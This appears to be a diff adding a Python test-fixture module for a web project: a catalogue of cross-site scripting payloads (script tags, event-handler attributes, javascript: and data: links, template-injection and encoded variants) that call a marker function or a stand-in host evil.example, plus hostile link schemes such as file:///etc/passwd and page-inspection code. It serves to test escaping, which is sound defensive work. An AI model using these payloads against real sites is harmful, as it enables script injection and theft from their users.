@@ -1,0 +1,91 @@
+"""Texts that run a script if anything takes them for markup."""
+
+from __future__ import annotations
+
+CALLS = ("hacked()", "window.hacked=1", "parent.hacked()", "fetch(`//evil.example`)")
+TEMPLATES = (
+    "<script>{0}</script>",
+    "<script src=//evil.example/x.js></script><b id={0}>",
+    "<scr<script>ipt>{0}</scr</script>ipt>",
+    "</title><script>{0}</script>",
+    "</style><script>{0}</script>",
+    "</textarea><script>{0}</script>",
+    "</script><script>{0}</script>",
+    "--><script>{0}</script>",
+    "]]><script>{0}</script>",
+    "<script type=module>{0}</script>",
+    "<noscript><p title='</noscript><script>{0}</script>'>",
+    "<template><script>{0}</script></template>",
+    "<img src=x onerror={0}>",
+    "\"><img src=x onerror='{0}'>",
+    '\'><img src=x onerror="{0}">',
+    "<img/src=x/onerror={0}>",
+    "<IMG SRC=x ONERROR={0}>",
+    "<img src=`x`onerror={0}>",
+    "<img src=x:x onerror\n={0}>",
+    "<img src=//evil.example/{0}>",
+    "<image href=x onerror={0}>",
+    "<svg onload={0}>",
+    "'\"><svg/onload={0}>",
+    "<svg><script>{0}</script></svg>",
+    "<svg><animate onbegin={0} attributeName=x dur=1s>",
+    "<svg><a href='javascript:{0}'><text>x</text></a></svg>",
+    "<svg><foreignObject><body onload={0}></foreignObject></svg>",
+    "<svg><use href='data:image/svg+xml,<svg onload={0}>'></svg>",
+    "<math><mtext><img src=x onerror={0}></mtext></math>",
+    "<math href='javascript:{0}'>x</math>",
+    "<iframe src='javascript:{0}'></iframe>",
+    "<iframe srcdoc='<script>{0}</script>'>",
+    "<object data='javascript:{0}'></object>",
+    "<embed src='javascript:{0}'>",
+    "<body onload={0}>",
+    "<input autofocus onfocus={0}>",
+    "<details open ontoggle={0}>",
+    "<video><source onerror={0}></video>",
+    "<audio src=x onerror={0}>",
+    "<marquee onstart={0}>x</marquee>",
+    "<div style='animation-name:x' onanimationstart={0}>x</div>",
+    "<style>@import '//evil.example/{0}';</style>",
+    "<link rel=stylesheet href='//evil.example/{0}'>",
+    "<base href='//evil.example/{0}/'>",
+    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
+    "<form action='javascript:{0}'><button>x</button></form>",
+    "<a href='javascript:{0}'>go</a>",
+    "[go](javascript:{0})",
+    "![x](x' onerror='{0})",
+    "<javascript:{0}>",
+    "{{{{constructor.constructor('{0}')()}}}}",
+    "${{{0}}}",
+    "{{% if x %}}{0}{{% endif %}}",
+    "&lt;script&gt;{0}&lt;/script&gt;",
+    "&#60;img src=x onerror={0}&#62;",
+    "%3Cscript%3E{0}%3C/script%3E",
+    "\u202e<script>{0}</script>\u202c",
+    '" onmouseover={0} autofocus tabindex=1 x="',
+)
+PAYLOADS = tuple(template.format(call) for template in TEMPLATES for call in CALLS)
+HOSTILE_LINKS = (
+    "javascript:hacked()",
+    "JaVaScRiPt:hacked()",
+    " javascript:hacked()",
+    "java\nscript:hacked()",
+    "\x01javascript:hacked()",
+    "javascript&colon;hacked()",
+    "javascript:%68acked()",
+    "data:text/html,<script>parent.hacked()</script>",
+    "vbscript:hacked()",
+    "blob:https://book.example/x",
+    "file:///etc/passwd",
+    "//[",
+)
+WATCH_CALLS = "window.hacked = () => { window.ran = true; }"
+"""Runs before a page; a heading with this name must not count as a call."""
+FIND_CHANGES = """() => ({
+  hacked: typeof window.hacked !== "function" || window.ran === true,
+  handlers: [...document.querySelectorAll("*:not(#bookbound-widget)")].flatMap((each) => each.getAttributeNames())
+    .filter((name) => /^on|^srcdoc$|^style$/.test(name)),
+  elements: [...document.querySelectorAll("*")].map((each) => [
+    each.localName, each.className, ...each.getAttributeNames().sort(),
+  ].join(" ")),
+})"""
+"""What the page consists of, without its words."""
